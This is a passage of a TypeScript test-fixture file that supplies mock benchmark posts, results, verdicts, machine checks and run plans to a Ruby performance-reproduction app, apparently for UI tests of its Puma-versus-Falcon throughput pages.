// Scripts for the scripted backend: the states each page must show, for
// tests in a plain browser (`?script=<name>`). Data shaped like the app's
// answers for hello-ceiling; loaded only in test mode, never in the app's bundle.

import type { Backend } from '../backend';
import { scriptedBackend, type Script } from './scripted';
import type { PostView } from '../bindings/PostView';
import type { ResultsView } from '../bindings/ResultsView';
import type { StreamMessage } from '../bindings/StreamMessage';
import type { Preflight } from '../bindings/Preflight';
import type { Library } from '../bindings/Library';
import type { SharePreview } from '../bindings/SharePreview';
import type { RunOutcome } from '../bindings/RunOutcome';
import type { RunPlan } from '../bindings/RunPlan';
import type { Event } from '../bindings/Event';
import type { SetupPlan } from '../bindings/SetupPlan';
import type { ThisMachine } from '../bindings/ThisMachine';
import type { Validation } from '../bindings/Validation';
import type { Check } from '../bindings/Check';
import type { Community } from '../bindings/Community';

const throughput = { metric: 'req_per_s', unit: 'req/s', name: 'throughput' } as const;
const medianLatency = { metric: 'p50_ms', unit: 'ms', name: 'median latency' } as const;
const tailLatency = { metric: 'p99_ms', unit: 'ms', name: 'tail latency' } as const;

const post: PostView = {
  post: {
    id: 'hello-ceiling',
    title: 'Campfire under Falcon: the hello-world ceilings',
    author: 'Sam Ruby',
    date: '2026-10',
    url: null,
    run: 'the October 16 run',
    summary: 'Before reading a cached route’s throughput, the post measures what the app server alone can do.',
    unknowns: ['The post gives no Puma or Falcon version.'],
  },
  checksum: { status: 'matches' },
  machine: {
    cpu: 'AMD Ryzen 5 3600 6-Core Processor', cores: 6, threads: 12, smt: true, base_mhz: 3600, boost: false,
    governor: 'performance', memory_gb: 63, os: 'Ubuntu 24.04.5 LTS', kernel: null, virtualization: 'none',
    quote: 'AMD Ryzen 5 3600 6-Core Processor, 6c/12t, 3.6 GHz, boost disabled.',
  },
  toolchains: [
    { toolchain: { name: 'ruby', version: '*', command: ['ruby', '--version'], pattern: 'ruby (\\S+)', why: 'Any Ruby that runs Puma will do.', quote: null, mise: null }, on_path: true },
    { toolchain: { name: 'falcon', version: '*', command: ['falcon', '--version'], pattern: 'falcon (\\S+)', why: 'The fiber server.', quote: null, mise: null }, on_path: false },
  ],
  lanes: [
    { lane: lane('puma', 'Puma, two workers.'), here: { state: 'runs' } },
    { lane: lane('falcon', 'Falcon.'), here: { state: 'blocked', why: 'Cannot run: it needs falcon, which this machine lacks.', fix: 'gem install falcon' } },
  ],
  steps: [
    { id: 'serve', kind: 'serve', why: 'Start each server on its own port.', after: [], lanes: ['puma', 'falcon'], command: null },
    { id: 'check', kind: 'check', why: 'One checked request per lane: same body everywhere.', after: ['serve'], lanes: [], command: null },
    { id: 'measure', kind: 'load', why: 'The hello-world load, after a warm-up.', after: ['check'], lanes: [], command: null },
  ],
  figures: [
    {
      figure: { id: 'puma-hello', lane: 'puma', endpoint: '/', metric: 'req_per_s', value: 54000, range: null, unknown: null, approx: true, condition: null, quote: 'A hello-world app under Puma serves about 54,000 requests a second.' },
      published: '≈ 54,000 req/s',
    },
    { figure: { id: 'falcon-hello', lane: 'falcon', endpoint: '/', metric: 'req_per_s', value: 106000, range: null, unknown: null, approx: true, condition: null, quote: 'Under Falcon, 106,000 (`wrk -t1 -c16`).' }, published: '≈ 106,000 req/s' },
  ],
  claims: [
    {
      claim: { id: 'falcon-twice-puma', quote: 'Falcon’s ceiling is about twice Puma’s.', tolerance: 0.15, ceiling: true, kind: 'ratio', numerator: 'falcon-hello', denominator: 'puma-hello', value: 1.96 },
      figures: ['falcon-hello', 'puma-hello'],
      tolerance: '±15%',
    },
  ],
  units: [throughput],
};

/** campfire-runtimes' post: published figures with long notes, and a link to the post. */
const runtimesPost: PostView = {
  ...post,
  post: {
    id: 'campfire-runtimes', title: 'Campfire on CRuby, JRuby and TruffleRuby', author: 'Sam Ruby', date: '2026-09',
    url: 'https://example.com/posts/campfire-runtimes', run: 'the nightly of September 22',
    summary: 'Campfire, emitted by Roundhouse and as stock Rails, on CRuby+YJIT, JRuby and TruffleRuby.', unknowns: [],
  },
  machine: null,
  figures: [
    {
      figure: {
        id: 'rails-rooms', lane: 'rails', endpoint: '/rooms/1', metric: 'req_per_s', value: null, range: null, approx: false, condition: null,
        unknown: 'The deployed Rails row’s req/s is in the post’s table, which did not survive; the text gives it only through jruby’s 5.4× and ruby’s 7.4× (about 317–320 req/s).',
        quote: 'So jruby at 1,712 req/s is the first row on the page that is both multi-core and something Campfire could deploy as it stands: 3.6× the one-worker CRuby shape, 5.4× the deployed Rails row, at 8 ms median against Rails’ 44, and 0.72× of the eight CRuby workers whose shape it can’t have.',
      },
      published: 'not given',
    },
    {
      figure: {
        id: 'rails-rooms-p50', lane: 'rails', endpoint: '/rooms/1', metric: 'p50_ms', value: 44, range: null, approx: false, condition: null, unknown: null,
        quote: 'So jruby at 1,712 req/s is the first row on the page that is both multi-core and something Campfire could deploy as it stands.',
      },
      published: '44 ms',
    },
  ],
  claims: [],
  units: [throughput, medianLatency],
};

function lane(name: string, why: string): PostView['lanes'][number]['lane'] {
  return {
    name, runtime: 'ruby', needs: [], server: name, workers: 2, threads: 4, env: {}, heap_mb: null, warmup: '5s',
    command: [name], dir: null, port: 9292, health: '/', boot_budget: null, placement: 'host', image: null, why, not_runnable: null, harness: null, services: [],
  };
}

/** A figure's row, its numbers as the session reads them. */
const cell = (lane: string, median: number, published: string, measured: string): ResultsView['figures'][number] => ({
  reading: {
    figure: `${lane}-hello`, lane, endpoint: '/', metric: 'req_per_s' as const,
    published: lane === 'puma' ? 54000 : 106000, published_range: null,
    cell: { lane, endpoint: '/', metric: 'req_per_s' as const },
    status: { status: 'valid' as const },
    stats: { runs: 3, median, min: median - 100, max: median + 100, mean: median, cv: 0.003, unstable: false },
    interval: { estimate: median, low: median - 100, high: median + 100 },
  },
  published,
  measured,
  status: 'valid',
});

type Cell = ResultsView['lanes'][number]['cells'][number];

/** A measured cell of the results: its median, the runs' spread, the gate's
 *  word, and its median (with its interval) as the session reads them. */
const measured = (lane: string, metric: 'req_per_s' | 'p50_ms' | 'p99_ms', median: number, cv: number, figures: string[], text: [string, string], status: Cell['status'] = { status: 'valid' }): Cell => ({
  key: { lane, endpoint: '/', metric }, runs: 3, status, figures,
  stats: { runs: 3, median, min: median * (1 - cv), max: median * (1 + cv), mean: median, cv, unstable: cv > 0.1 },
  interval: { estimate: median, low: median * (1 - cv / 2), high: median * (1 + cv / 2) },
  median: text[0],
  measured: text[1],
  server_cpu: metric === 'req_per_s' ? '54% of 1 CPU, CPU-bound' : null,
});

/** A measured lane's row: its cells, and what the session flags in them. */
const measuredLane = (name: string, cells: Cell[], flags: string[], runs = 3): ResultsView['lanes'][number] => ({
  lane: name, endpoint: cells[0].key.endpoint, cells, runs, no_figure: cells.every((c) => c.figures.length === 0), flags,
});

const results: ResultsView = {
  run: { id: 'hello-ceiling-1', created_at: '2026-11-30T05:00:00Z', recipe: 'hello-ceiling', title: post.post.title, origin: 'results dir', cells: 7, reproduced: 1, not_reproduced: 0, inconclusive: 0, no_data: 0, not_measured: 0, not_comparable: 2, smoke_run: false, ending: 'finished', tally: '1 reproduced · 2 not comparable' },
  info: { id: 'hello-ceiling-1', created_at: '2026-11-30T05:00:00Z', recipe: 'hello-ceiling', title: post.post.title, author: 'Sam Ruby', post_date: '2026-10', post_url: null, post_run: 'the October 16 run', origin: 'results dir' },
  machine: { machine: 'differs', reasons: ['CPU: Test CPU, the post\'s AMD Ryzen 5 3600 6-Core Processor', 'boost: on, the post\'s off'] },
  tally: '1 reproduced · 2 not comparable',
  figures: [
    cell('puma', 30200, '54,000 req/s', '30,200 req/s (30,100–30,300)'),
    cell('falcon', 60200, '106,000 req/s', '60,200 req/s (60,100–60,300)'),
  ],
  deviations: [{ kind: 'toolchain', what: 'ruby: ruby 3.1.2p20 (/usr/bin/ruby) instead of 4.0.5', lanes: ['puma', 'falcon'] }],
  verdicts: [
    {
      verdict: { claim: 'falcon-twice-puma', kind: 'ratio', quote: 'Falcon’s ceiling is about twice Puma’s.', outcome: 'reproduced', reason: 'the interval lies within 1.96 ± 15%', published: 1.96, unit: '×', tolerance: 0.15, band: [1.67, 2.25], measured: { estimate: 1.99, low: 1.98, high: 2.0 }, more_runs: null, decided_after: null, cpu: null, figures: ['falcon-hello', 'puma-hello'], deviations: ['ruby: ruby 3.1.2p20 (/usr/bin/ruby) instead of 4.0.5'] },
      published: '1.96×', band: '1.67–2.25×', measured: '1.99× (1.98–2)',
    },
    {
      verdict: { claim: 'puma-ceiling', kind: 'absolute', quote: 'about 54,000 requests a second', outcome: 'not_comparable', reason: 'not comparable on this machine; measured 30,200 req/s against the published 54,000 req/s, for information', published: 54000, unit: 'req/s', tolerance: 0.15, band: [45900, 62100], measured: { estimate: 30200, low: 30100, high: 30300 }, more_runs: null, decided_after: null, cpu: null, figures: ['puma-hello'], deviations: [] },
      published: '54,000 req/s', band: '45,900–62,100 req/s', measured: '30,200 req/s (30,100–30,300)',
    },
    {
      verdict: { claim: 'falcon-ceiling', kind: 'absolute', quote: 'under Falcon, 106,000.', outcome: 'not_comparable', reason: 'not comparable on this machine; measured 60,200 req/s against the published 106,000 req/s, for information', published: 106000, unit: 'req/s', tolerance: 0.15, band: [90100, 121900], measured: { estimate: 60200, low: 60100, high: 60300 }, more_runs: null, decided_after: null, cpu: null, figures: ['falcon-hello'], deviations: [] },
      published: '106,000 req/s', band: '90,100–121,900 req/s', measured: '60,200 req/s (60,100–60,300)',
    },
  ],
  environment: {
    fingerprint: { cpu: 'Test CPU' },
    toolchains: [{ name: 'ruby', version: 'ruby 3.1.2p20' }, { name: 'puma', version: 'puma version 6.4.2' }],
    sources: [],
    tree_digests: [],
    harness: { runs: 3, connections: 16, duration_sec: 20 },
    commands: [['wrk', '-t1', '-c16', '-d10s', 'http://127.0.0.1:9292/']],
    bench_env: { host: { hostname: 'desk-seven' }, cpu: { brand: 'Test CPU', logical: 2 } },
  },
  commands: ['wrk -t1 -c16 -d10s http://127.0.0.1:9292/'],
  people: [],
  units: [throughput, medianLatency, tailLatency],
  lanes: [
    measuredLane(
      'puma',
      [
        measured('puma', 'req_per_s', 30200, 0.004, ['puma-hello'], ['30,200 req/s', '30,200 req/s (30,140–30,260)']),
        measured('puma', 'p50_ms', 0.4, 0.02, [], ['0.4 ms', '0.4 ms (0.4–0.4)']),
        measured('puma', 'p99_ms', 1.2, 0.142, [], ['1.2 ms', '1.2 ms (1.11–1.29)']),
      ],
      ['tail latency: high spread, runs vary 14.2%'],
    ),
    measuredLane('falcon', [measured('falcon', 'req_per_s', 60200, 0.003, ['falcon-hello'], ['60,200 req/s', '60,200 req/s (60,110–60,290)'])], []),
    // nginx is the recipe's own reference lane: no figure reads it.
    measuredLane(
      'nginx',
      [
        measured('nginx', 'req_per_s', 91200, 0.01, [], ['91,200 req/s', '91,200 req/s (90,744–91,656)'], { status: 'client_bound', run: 2, client_cpu: 0.97 }),
        measured('nginx', 'p50_ms', 0.2, 0.01, [], ['0.2 ms', '0.2 ms (0.2–0.2)']),
        measured('nginx', 'p99_ms', 0.6, 0.02, [], ['0.6 ms', '0.6 ms (0.59–0.61)']),
      ],
      ['throughput: client-bound: the load generator used 97% of its CPU in run 2'],
    ),
  ],
  not_measured: [],
  measured_on: [
    { name: 'CPU', value: 'Test CPU' },
    { name: 'Cores', value: '2 threads' },
    { name: 'Governor', value: '— (no cpufreq)' },
    { name: 'Boost', value: '— (no boost switch)' },
    { name: 'Memory', value: '8.0 GiB' },
    { name: 'Kernel', value: 'Linux 6.1.0-27-cloud-amd64' },
    { name: 'OS', value: 'Debian GNU/Linux 12 (bookworm)' },
    { name: 'Virtualisation', value: 'virtual machine (Google)' },
  ],
  confidence: '95%',
  sequential: null,
};

/** A run that went on until its claims were decided (--until-conclusive):
 *  the ratio decided at the second look. */
const conclusiveResults: ResultsView = {
  ...results,
  run: { ...results.run, id: 'hello-ceiling-3' },
  verdicts: results.verdicts.map((row) =>
    row.verdict.claim === 'falcon-twice-puma' ? { ...row, verdict: { ...row.verdict, decided_after: 5 } } : row,
  ),
  confidence: '99.17%',
  sequential: 'The runs went on until each claim measured here was decided (--until-conclusive): claims looked at after 3, 5, 8, 12, 18 or 27 runs per cell, each look\'s intervals at 99.17% confidence so that all 6 looks together keep a 5% error rate (Bonferroni).',
};

/** A smoke run made five minutes before the page opened, falcon skipped. */
const smokeResults: ResultsView = {
  ...results,
  run: {
    ...results.run, id: 'hello-ceiling-2', created_at: new Date(Date.now() - 5 * 60_000 - 5_000).toISOString(), cells: 1, reproduced: 0, not_comparable: 1, not_measured: 3,
    smoke_run: true, ending: 'cancelled', tally: '3 not measured · 1 not comparable',
  },
  tally: '3 not measured · 1 not comparable',
  deviations: [{ kind: 'quick', what: 'a smoke run (--quick): durations, warm-ups and runs capped', lanes: [] }],
  lanes: [
    measuredLane(
      'puma',
      [{ ...measured('puma', 'req_per_s', 29800, 0, ['puma-hello'], ['29,800 req/s', '29,800 req/s (29,800–29,800)']), runs: 1, stats: { runs: 1, median: 29800, min: 29800, max: 29800, mean: 29800, cv: 0, unstable: false } }],
      ['one run: no spread to read'],
      1,
    ),
  ],
  verdicts: [
    ...['falcon-twice-puma', 'falcon-ceiling', 'falcon-above-puma'].map((claim) => {
      const row = results.verdicts.find((r) => r.verdict.claim === claim) ?? results.verdicts[0];
      return {
        ...row,
        verdict: {
          ...row.verdict, claim, kind: claim === 'falcon-above-puma' ? 'ordering' as const : row.verdict.kind, outcome: 'not_measured' as const,
          reason: 'lane falcon was not measured (preflight): it needs falcon, which this machine lacks', measured: null, deviations: [],
        },
        measured: '—',
      };
    }),
    {
      ...results.verdicts[1],
      verdict: { ...results.verdicts[1].verdict, measured: { estimate: 29800, low: 29800, high: 29800 }, reason: 'not comparable on this machine; measured 29,800 req/s against the published 54,000 req/s, for information' },
      measured: '29,800 req/s (29,800–29,800)',
    },
  ],
  not_measured: [{ lane: 'falcon', why: 'preflight: it needs falcon, which this machine lacks' }],
  measured_on: [],
  confidence: '95%',
  sequential: null,
};

/** A run like campfire-nightly's: a count a command step printed (its unit
 *  is empty), a claim on it, and a lane whose cell recorded no runs. */
const countTally = '1 reproduced';
const countResults: ResultsView = {
  ...results,
  run: { ...results.run, id: 'campfire-nightly-1', recipe: 'campfire-nightly', title: 'Campfire, nightly', cells: 2, reproduced: 1, not_comparable: 0, tally: countTally },
  machine: { machine: 'matches' },
  tally: countTally,
  figures: [],
  deviations: [],
  verdicts: [
    {
      verdict: { claim: 'six-rooms', kind: 'absolute', quote: 'The seed has six rooms.', outcome: 'reproduced', reason: 'the interval lies within 6 ± 15%', published: 6, unit: '', tolerance: 0.15, band: [5.1, 6.9], measured: { estimate: 6, low: 6, high: 6 }, more_runs: null, decided_after: null, cpu: null, figures: ['rooms'], deviations: [] },
      published: '6', band: '5.1–6.9', measured: '6 (6–6)',
    },
    {
      verdict: { claim: 'jruby-ceiling', kind: 'absolute', quote: 'JRuby serves 1,712 req/s.', outcome: 'inconclusive', reason: 'the interval straddles the band’s edge', published: 1712, unit: 'req/s', tolerance: 0.15, band: [1455.2, 1968.8], measured: { estimate: 1900, low: 1800, high: 2000 }, more_runs: 1, decided_after: null, cpu: null, figures: ['jruby-rooms'], deviations: [] },
      published: '1,712 req/s', band: '1,455–1,969 req/s', measured: '1,900 req/s (1,800–2,000)',
    },
  ],
  units: [...results.units, { metric: 'count', unit: '', name: 'counts' }],
  lanes: [
    measuredLane(
      'seed',
      [{ key: { lane: 'seed', endpoint: null, metric: 'count' }, runs: 1, status: { status: 'valid' }, figures: ['rooms'], stats: { runs: 1, median: 6, min: 6, max: 6, mean: 6, cv: 0, unstable: false }, interval: { estimate: 6, low: 6, high: 6 }, median: '6', measured: '6 (6–6)', server_cpu: null }],
      ['one run: no spread to read'],
      1,
    ),
    measuredLane(
      'jruby',
      [{ key: { lane: 'jruby', endpoint: '/', metric: 'req_per_s' }, runs: 0, status: { status: 'no_data', reason: 'every run failed' }, figures: [], stats: null, interval: null, median: '—', measured: '—', server_cpu: null }],
      ['throughput: no data: every run failed', 'no runs recorded'],
      0,
    ),
  ],
};

const peopleRow = (people: string, served: boolean, verdict: string, navigation: string, delivery: string, failures: string, resends: string, reconnects: string, generator: string) =>
  ({ step: 'people', lane: 'rails', people, served, verdict, navigation, delivery, failures, resends, reconnects, generator });

const peopleResults: ResultsView = {
  ...results,
  run: { ...results.run, id: 'campfire-people-1', recipe: 'campfire-people', title: 'Campfire with many people', cells: 0, reproduced: 0, not_comparable: 0, smoke_run: true, tally: 'no claims' },
  machine: { machine: 'matches' },
  tally: 'no claims',
  figures: [],
  verdicts: [],
  lanes: [],
  deviations: [{ kind: 'quick', what: 'a smoke run (--quick): durations, warm-ups and runs capped', lanes: [] }],
  people: [
    peopleRow('250', true, 'served', '11.0 / 88.0 ms', '4.0 / 120.0 ms', '0', '0', '3 / 0', '0.12 cores, 0.40 ms'),
    peopleRow('1000', false, 'not served: navigation p99 812.0 ms > 100 ms', '140.0 / 812.0 ms', '9.0 / 430.0 ms', '104 (lost_delivery 104)', '37', '12 / 2', '0.31 cores, 0.90 ms'),
  ],
};

function flood(batches: number): StreamMessage[][] {
  const out: StreamMessage[][] = [];
  for (let i = 1; i <= batches; i++) {
    out.push([
      { type: 'log', step: 'measure', lines: [`run ${i}: 75,0${i % 10}0 req/s`], dropped: i * 3 },
      { type: 'progress', step: 'measure', done: i, total: batches, req_per_s: 74000 + (i % 7) * 300, p99_ms: 1.1 + (i % 3) / 10, cell: null, merged: 3750 },
    ]);
  }
  out.push([{ type: 'event', event: { event: 'finished', step: 'measure', duration_ms: 3000 } }]);
  return out;
}

const machine: ThisMachine = {
  summary: [
    { name: 'CPU', value: 'Intel(R) Xeon(R) CPU @ 2.20GHz (GenuineIntel, family 6 model 79)' },
    { name: 'Cores', value: '1 cores, 2 threads, 1 socket, SMT on' },
    { name: 'Frequency', value: '—' },
    { name: 'Governor', value: 'performance (all 2 policies)' },
    { name: 'Boost', value: 'off (/sys/devices/system/cpu/cpufreq/boost)' },
    { name: 'Memory', value: '7.6 GiB, 6.1 GiB available, swap 0.0 GiB' },
    { name: 'Kernel', value: 'Linux 6.1.0-27-cloud-amd64' },
    { name: 'OS', value: 'Debian GNU/Linux 12 (bookworm)' },
    { name: 'Virtualisation', value: 'virtual machine (Google, Google Compute Engine, hypervisor flag)' },
    { name: 'Containers', value: 'no Docker-compatible engine answers' },
  ],
  facts: [
    { name: 'cpu.brand', value: 'Intel(R) Xeon(R) CPU @ 2.20GHz' },
    { name: 'cpu.logical_threads', value: '2' },
    { name: 'clock.governor', value: 'performance' },
    { name: 'memory.total_kib', value: '8130560' },
  ],
};

const ok = (id: string, found: string): Check => ({ id, level: 'ok', found, why: '', fix: null });
const machineChecks: Check[] = [
  ok('governor', 'governor performance'),
  ok('boost', 'boost off'),
  ok('cpus', '2 usable CPUs'),
  ok('memory', '6.1 GiB available'),
  ok('kernel_runs', 'SHA-256 over 16 MiB runs vary by 0.8% (CV, worst CPU 1); median 24.46 ms'),
  ok('ceiling', '74,210 req/s median over 3 of 3 runs (min 73,900, max 74,800, spread 1.2%); server on CPU 0, load generator on CPU 1'),
];
const validationLines = [
  'fingerprint: reading this machine',
  'stability: SHA-256 over 16 MiB on 2 CPUs, 8 runs each; timer lag over 200 sleeps',
  'ceiling: built-in reference server, 16 connections, 3 runs of 3s (server on CPU 0, load generator on CPU 1)',
  '  run 1/3: 74,210 req/s',
];
const readyValidation: Validation = {
  mode: 'quick',
  created_at: '2026-12-01T09:00:00Z',
  fitness: 'ready',
  summary: 'reprise validate: ready — Intel(R) Xeon(R) CPU @ 2.20GHz (2 CPUs); ceiling 74,210 req/s ±1.2% (3 runs, split); kernel CV 0.8% runs, 0.5% CPUs; timer lag p99 0.46 ms; background 1%',
  checks: machineChecks,
  ceiling: '74,210 req/s median over 3 runs, spread 1.2%',
  ceiling_split: 'server on CPU 0, load generator on CPU 1',
  history: { outcome: 'stored', id: 'machine-20261201-1' },
};
const caveatsValidation: Validation = {
  ...readyValidation,
  fitness: 'usable_with_caveats',
  summary: 'reprise validate: usable with caveats — Intel(R) Xeon(R) CPU @ 2.20GHz (2 CPUs, VM); ceiling 74,210 req/s ±1.2% (3 runs, split) — caveats: virtualization, container_engine',
  checks: [
    ...machineChecks,
    {
      id: 'virtualization', level: 'warn', found: 'virtual machine (Google)',
      why: 'vCPUs share physical cores with other guests, so numbers move with the neighbours and absolute figures are not the posts’ bare-metal ones',
      fix: 'use bare metal or dedicated (pinned) vCPUs; compare ratios rather than absolute figures',
    },
    {
      id: 'container_engine', level: 'warn', found: 'no container engine answered',
      why: 'recipes with container lanes cannot run; host lanes are unaffected',
      fix: 'install Docker (apt-get install docker.io) or Podman and start its service',
    },
  ],
  history: { outcome: 'failed', reason: 'history.sqlite: attempt to write a readonly database' },
};

/** A quick validation whose ceiling had one run with data (no spread to
 *  read) and one check. */
const oneRunValidation: Validation = {
  ...readyValidation,
  summary: 'reprise validate: ready — Intel(R) Xeon(R) CPU @ 2.20GHz (2 CPUs); ceiling 74,210 req/s (1 run, split)',
  checks: [machineChecks[0]],
  ceiling: '74,210 req/s median over 1 run, no spread to read',
};

const preflight: Preflight = {
  recipe: 'hello-ceiling',
  absolute_comparable: false,
  items: [
    { subject: 'cpu', name: 'CPU', reference: 'AMD Ryzen 5 3600 6-Core Processor', here: 'Intel(R) Xeon(R) CPU @ 2.20GHz', verdict: 'differs', why: 'A different CPU: absolute figures are for information only.', fix: null },
    { subject: 'boost', name: 'boost', reference: 'off', here: 'on', verdict: 'differs', why: 'Boost makes runs vary.', fix: 'echo 0 > /sys/devices/system/cpu/cpufreq/boost' },
    { subject: 'toolchain', name: 'toolchain falcon', reference: '*', here: null, verdict: 'blocks', why: 'falcon is not installed.', fix: 'gem install falcon' },
  ],
  runnable_lanes: ['puma'],
  blocked_lanes: ['falcon'],
  published_only_lanes: [],
  version_commands: ['ruby --version', 'puma --version', 'falcon --version'],
  versions_asked: false,
  claims: {
    total: 4,
    judged: ['nginx-above-puma'],
    not_judged: [
      { claims: ['falcon-twice-puma', 'falcon-above-puma'], why: 'lane falcon cannot run here: it needs falcon, which this machine lacks', fix: 'gem install falcon' },
      { claims: ['puma-ceiling'], why: 'an absolute figure is judged only on a machine like the post’s, and this one differs', fix: null },
    ],
    summary: '1 of 4 claims: nginx-above-puma',
  },
};

const setupPlan: SetupPlan = {
  recipe: 'hello-ceiling',
  lanes: [],
  config: '/home/reader/.local/share/reprise/setup/hello-ceiling/mise.toml',
  config_text: '# Written by `reprise setup`: the toolchains the recipe pins.\n[tools]\n"gem:falcon" = "latest"\n',
  installs: ['gem:falcon latest (for falcon)'],
  by_hand: ['nginx *'],
  mise: '/home/reader/.cargo/bin/mise',
  get_mise: null,
  commands: ['mise install'],
  dir: '/home/reader/.local/share/reprise/setup/hello-ceiling',
};

/** The preflight once falcon is set up: nothing blocks. */
const preflightSetUp: Preflight = {
  ...preflight,
  items: preflight.items.map((i) =>
    i.name === 'toolchain falcon' ? { ...i, here: 'falcon 0.51.1', verdict: 'matches', fix: null } : i,
  ),
  runnable_lanes: ['puma', 'falcon'],
  blocked_lanes: [],
};

const setupBatches: StreamMessage[][] = [
  [{ type: 'log', step: 'setup', lines: ['mise by @jdx – installing 1 tool'], dropped: 0 }],
  [{ type: 'log', step: 'setup', lines: ['mise ✓ gem:falcon@0.51.1'], dropped: 0 }],
];

const plan: RunPlan = {
  recipe: 'hello-ceiling',
  checksum: { status: 'matches' },
  sources: [{ id: 'app', url: 'https://example.invalid/app', revision: '1a2b3c' }],
  deviations: [],
  lanes: ['puma', 'falcon'],
  resumes: null,
  steps: [
    { id: 'clone', kind: 'clone', why: 'The app’s sources at the post’s revision.', describe: 'git clone https://example.invalid/app @ 1a2b3c', decision: 'run', reason: null, last_status: null, last_reason: null, expected: null, expected_quick: null },
    {
      id: 'measure', kind: 'load', why: 'Three timed runs per lane after a warm-up.', describe: 'measure hello: lanes × endpoints × runs', decision: 'run', reason: null, last_status: null, last_reason: null,
      expected: { summary: '2 lanes × 1 endpoint × 3 runs of 10 s, after warm-ups (10 s in all): about 1 min 10 s', lanes: 2, cells: 6, runs: 3, cell_seconds: 10, warmup_seconds: 10, seconds: 70, quick: false },
      expected_quick: { summary: '2 lanes × 1 endpoint × 2 runs of 2 s (quick: the recipe’s 3 runs of 10 s), after warm-ups (2 s in all): about 10 s', lanes: 2, cells: 4, runs: 2, cell_seconds: 2, warmup_seconds: 2, seconds: 10, quick: true },
    },
  ],
  consent: {
    steps: [
      { id: 'clone', kind: 'clone', does: 'git clone https://example.invalid/app @ 1a2b3c', env: [] },
      { id: 'measure', kind: 'load', does: 'wrk -c16 -d10s', env: [] },
    ],
    lanes: [
      { name: 'puma', command: 'in files/hello: puma --bind tcp://127.0.0.1:9292 config.ru (port 9292)', env: ['RACK_ENV=production'] },
      { name: 'falcon', command: 'in files/hello: falcon serve --bind http://127.0.0.1:9294 (port 9294)', env: [] },
    ],
    services: [],
    version_commands: ['ruby --version', 'puma --version', 'falcon --version'],
    records_machine: ['uname -a', 'lscpu --json', 'ruby --version', 'wrk --version'],
    files: [{ path: 'hello/config.ru', lines: 1, script: false }],
    requests: ['GET /'],
    lane_address: '127.0.0.1',
    server_host: null,
  },
  reviewed_diff: null,
  claims: {
    total: 4,
    judged: ['nginx-above-puma'],
    not_judged: [
      { claims: ['falcon-twice-puma', 'falcon-above-puma'], why: 'lane falcon cannot run here: it needs falcon, which this machine lacks', fix: 'gem install falcon' },
      { claims: ['puma-ceiling'], why: 'an absolute figure is judged only on a machine like the post’s, and this one differs', fix: null },
    ],
    summary: '1 of 4 claims: nginx-above-puma',
  },
  judged_elsewhere: [],
};

/** A plan that judges no claim here: falcon is missing and the machine is
 *  not the post's; two other recipes can judge claims here. */
const judgesNothingPlan: RunPlan = {
  ...plan,
  claims: {
    total: 2,
    judged: [],
    not_judged: [{ claims: ['falcon-twice-puma', 'falcon-above-puma'], why: 'lane falcon cannot run here: it needs falcon, which this machine lacks', fix: 'gem install falcon' }],
    summary: 'none of its 2 claims',
  },
  judged_elsewhere: ['fibers-vs-threads', 'machine'],
};

/** The same plan with the lanes on a server host, as the app plans it. */
const serverPlan: RunPlan = {
  ...plan,
  deviations: [{ kind: 'server_host', what: 'the lanes were served by another machine through its engine’s API, the load generators ran here', lanes: [] }],
  consent: {
    ...plan.consent,
    lanes: [{ name: 'puma', command: 'in a container of localhost/ruby-puma@sha256:1a2b: puma --bind tcp://10.0.0.2:9292 config.ru (port 9292)', env: [] }],
    lane_address: '10.0.0.2',
    server_host: 'runs each lane as a container of its image on the server host’s engine at tcp://10.0.0.2:2376 (TLS), each lane’s folder copied there',
  },
};

const ev = (event: Event): StreamMessage => ({ type: 'event', event });

/** How long a run has left, as the app sends it with each batch. */
const left = (seconds: number | null, measuring = false): StreamMessage => ({ type: 'left', left: seconds === null ? null : { seconds, measuring } });

/** A clone, then a measuring step skipped; `measuring`, how long the app
 *  says measuring will take (none for a resumed run that keeps that step). */
const runBatchesMeasuring = (measuring: number | null): StreamMessage[][] => [
  [ev({ event: 'run', id: 'hello-ceiling-20261130-1', dir: '/runs/hello-ceiling-20261130-1' }), ev({ event: 'started', step: 'clone', kind: 'clone' }), left(measuring)],
  ...Array.from({ length: 10 }, (_, i): StreamMessage[] => [
    { type: 'log', step: 'clone', lines: [`Receiving objects: ${(i + 1) * 10}%`], dropped: 0 },
    { type: 'progress', step: 'clone', done: (i + 1) * 100, total: 1000, req_per_s: null, p99_ms: null, cell: null, merged: 12 },
    left(measuring),
  ]),
  [ev({ event: 'finished', step: 'clone', duration_ms: 2041 }), left(measuring), ev({ event: 'skipped', step: 'measure', reason: 'every lane was skipped: falcon is not installed' }), left(null)],
];
const runBatches = runBatchesMeasuring(70);

const share: SharePreview = {
  run: 'hello-ceiling-1',
  repo: 'rubys/reprise',
  category: 'hello-ceiling',
  title: 'Reprise: Campfire under Falcon: the hello-world ceilings (1 reproduced)',
  body: '# Reprise: Campfire under Falcon\n\nMachine: [hostname]\n',
  markdown: 'Reprise: Campfire under Falcon: the hello-world ceilings (1 reproduced)\n\n# Reprise: Campfire under Falcon\n\nMachine: [hostname]\n',
  html: '<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>Reprise: Campfire under Falcon</title></head><body>\n<h1>Reprise: Campfire under Falcon</h1>\n<p>Machine: [hostname]</p>\n<table><tr><th>claim</th><th>verdict</th></tr><tr><td>falcon-twice-puma</td><td class="reproduced">reproduced</td></tr></table>\n</body></html>\n',
  redacted: true,
  redacted_names: ['desk-seven'],
  prefilled_url: null,
  body_in_link: false,
};

const blocked = { state: 'blocked', why: 'Cannot run: it needs falcon, which this machine lacks.', fix: null } as const;

const library: Library = {
  recipes: [
    {
      post: post.post, units: ['req/s'], figures: 2, claims: 4, steps: 3, checksum: { status: 'matches' }, runnable: 3, runs_here: 1,
      lanes: [{ lane: 'puma', here: { state: 'runs' } }, { lane: 'falcon', here: blocked }, { lane: 'nginx', here: blocked }],
    },
    {
      post: { id: 'campfire-runtimes', title: 'Campfire on CRuby, JRuby and TruffleRuby', author: 'Sam Ruby', date: '2026-09-22', url: null, run: null, summary: 'Three Rubies, one app.', unknowns: [] },
      units: ['MB', 'ms', 'req/s'], figures: 40, claims: 12, steps: 9, checksum: { status: 'modified', expected: 'aa', actual: 'bb' }, runnable: 3, runs_here: 0,
      lanes: [{ lane: 'ruby', here: blocked }, { lane: 'jruby', here: blocked }, { lane: 'truffleruby', here: blocked }],
    },
    {
      post: { id: 'nonblocking-db', title: 'Non-blocking vs blocking database access in Ruby 1.9', author: 'unknown (an older Ruby blog)', date: '2008', url: null, run: null, summary: 'Fiber-aware Postgres under EventMachine.', unknowns: [] },
